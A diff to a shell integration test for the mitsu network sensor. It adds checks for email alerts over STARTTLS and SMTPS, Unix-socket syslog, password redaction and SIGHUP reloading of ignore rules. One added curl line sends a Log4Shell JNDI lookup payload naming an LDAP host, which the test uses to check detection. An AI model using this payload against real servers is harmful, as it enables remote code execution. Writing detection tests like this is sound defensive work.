@@ -19,8 +19,14 @@ cp "$HERE/alerts/exec_sink.sh" "$WORK/exec_sink.sh"
 chmod 755 "$WORK/exec_sink.sh"
 chmod 666 "$WORK/exec.jsonl" # the sensor runs its channels as nobody
 
+# a throwaway certificate for the STARTTLS relay, and the SMTP password
+openssl req -x509 -newkey rsa:2048 -nodes -keyout "$WORK/key.pem" -out "$WORK/cert.pem" \
+	-days 1 -subj /CN=127.0.0.1 >/dev/null 2>&1
+printf 's3cret pass\n' >"$WORK/smtp.pw"
 ip netns exec "$SNS" "$PY" "$HERE/alerts/receiver.py" "$RX" --http 18080 --flaky 18081 --fail-first 2 \
-	--syslog-udp 15514 --syslog-tcp 15515 --smtp 12525 --lifetime 240 >"$WORK/rx.log" 2>&1 &
+	--syslog-udp 15514 --syslog-tcp 15515 --syslog-unix "$RX/log.sock" --smtp 12525 \
+	--smtp-tls 12526 --smtps 12527 --cert "$WORK/cert.pem" --key "$WORK/key.pem" --user mitsu \
+	--password 's3cret pass' --lifetime 240 >"$WORK/rx.log" 2>&1 &
 RX_PID=$!
 i=0
 while [ $i -lt 100 ] && [ ! -e "$RX/ready" ]; do sleep 0.1; i=$((i + 1)); done
@@ -39,7 +45,9 @@ ip netns exec "$SNS" "$MITSU" run -i "$SIF" --store "$WORK/store" --stats-interv
 	--config "$WORK/mitsu.conf" --alert-ignore "$CADDR6" \
 	--webhook http://127.0.0.1:18080/hook --webhook http://127.0.0.1:18081/hook,json \
 	--webhook http://127.0.0.1:1/dead,slack \
-	--syslog tcp://127.0.0.1:15515,facility=local0 \
+	--syslog tcp://127.0.0.1:15515,facility=local0 --syslog "unix:$RX/log.sock" \
+	--email "smtp://127.0.0.1:12526,from=mitsu@test.invalid,to=soc@test.invalid,starttls,insecure,user=mitsu,password-file=$WORK/smtp.pw" \
+	--email "smtps://127.0.0.1:12527,from=mitsu@test.invalid,to=tls@test.invalid,insecure,user=mitsu,password-file=$WORK/smtp.pw" \
 	--exec "$WORK/exec_sink.sh,$WORK/exec.jsonl" --exec /bin/sleep,30 \
 	--alert-timeout 2 --alert-retries 3 >"$WORK/run.log" 2>&1 &
 SENSOR_PID=$!
@@ -86,11 +94,16 @@ check "syslog TCP: one octet-counted RFC 5424 message" \
 	sh -c "[ \$(grep -c '^<132>1 .* src=\"$CADDR\"\] $CADDR probed' '$RX/syslog_tcp.txt') -eq 1 ] && ! grep -q BADFRAME '$RX/syslog_tcp.txt'"
 check "email: one message over SMTP" \
 	sh -c "[ \$(grep -c '^Subject: mitsu contact alert: $CADDR probed' '$RX/mail.txt') -eq 1 ] && grep -q 'RCPT TO:soc@test.invalid' '$RX/mail.txt'"
+check "email over STARTTLS and over smtps://, with AUTH: one message each" \
+	sh -c "[ \$(grep -c '^Subject: mitsu contact alert: $CADDR probed' '$RX/mail_tls.txt') -eq 2 ] && [ \$(grep -c 'RCPT TO:soc@test.invalid TLS:True AUTH:True' '$RX/mail_tls.txt') -ge 1 ] && [ \$(grep -c 'RCPT TO:tls@test.invalid TLS:.* AUTH:True' '$RX/mail_tls.txt') -ge 1 ]"
+check "syslog on a local socket: one RFC 5424 message" \
+	sh -c "[ \$(grep -c '^<132>1 .* src=\"$CADDR\"\] $CADDR probed' '$RX/syslog_unix.txt') -eq 1 ]"
 body=$(awk '/^Content-Transfer-Encoding: base64/{b=1; next} b && /^\.$/{exit} b' "$RX/mail.txt" | tr -d '\r\n' | base64 -d 2>/dev/null)
 check "email body carries the alert JSON" sh -c "echo '$body' | grep -q '\"src_addr\":\"$CADDR\"'"
 check "exec: one alert on stdin, environment set" \
 	sh -c "[ \$(contact_lines_x=1; grep -c '\"kind\":\"contact\".*\"src_addr\":\"$CADDR\"' '$WORK/exec.jsonl') -eq 1 ] && grep -q 'env kind=contact src=$CADDR' '$WORK/exec.jsonl'"
-check "no channel saw the ignored source" sh -c "! grep -q '$CADDR6' '$RX/syslog_udp.txt' '$RX/mail.txt' '$WORK/exec.jsonl'"
+check "no channel saw the ignored source" sh -c "! grep -q '$CADDR6' '$RX/syslog_udp.txt' '$RX/syslog_unix.txt' '$RX/mail.txt' '$RX/mail_tls.txt' '$WORK/exec.jsonl'"
+check "the SMTP password is not logged" sh -c "! grep -q s3cret '$WORK/run.log'"
 check "dead webhook reported (retried, gave up)" grep -q 'webhook:http://127.0.0.1:1: gave up' "$WORK/run.log"
 check "hanging exec killed by the timeout and reported" grep -q 'exec:/bin/sleep: attempt .* killed after 2 s' "$WORK/run.log"
 check "the dead webhook's path is not logged" sh -c "! grep -q '127.0.0.1:1/dead' '$WORK/run.log'"
@@ -110,6 +123,23 @@ i=0
 while [ $i -lt 50 ] && ! grep -q '"kind":"tag"' "$RX/web.jsonl"; do sleep 0.1; i=$((i + 1)); done
 check "--alert-on tags:log4shell: one tag alert" \
 	sh -c "[ \$(grep -c '\"kind\":\"tag\".*\"src_addr\":\"$CADDR\".*\"dst_port\":8080.*\"tag\":\"log4shell\"' '$RX/web.jsonl') -eq 1 ]"
+# SIGHUP: a new ignore rule from the config file applies at once
+echo "alert-ignore $CADDR,port:8080" >>"$WORK/mitsu.conf"
+kill -HUP "$SENSOR_PID"
+i=0
+while [ $i -lt 50 ] && ! grep -q 'alerts: reloaded 2 ignore rules' "$WORK/run.log"; do sleep 0.1; i=$((i + 1)); done
+check "SIGHUP reloads the ignore rules" grep -q 'alerts: reloaded 2 ignore rules' "$WORK/run.log"
+cns curl -s -m 2 -H 'X-Api-Version: ${jndi:ldap://10.0.0.9/b}' "http://$SADDR:8080/after-reload" -o /dev/null
+i=0
+while [ $i -lt 80 ]; do
+	n=$("$MITSU" query --db "$DB" --csv "filter readable like 'after-reload' | stats count(*) as n" 2>/dev/null | tail -1 | tr -d '\r')
+	[ "$n" = 1 ] && break
+	sleep 0.1
+	i=$((i + 1))
+done
+sleep 1
+check "after the reload: the flow is recorded ($n), no new tag alert" \
+	sh -c "[ '$n' = 1 ] && [ \$(grep -c '\"kind\":\"tag\"' '$RX/web.jsonl') -eq 1 ]"
 t0=$(date +%s)
 stop_sensor
 t1=$(date +%s)
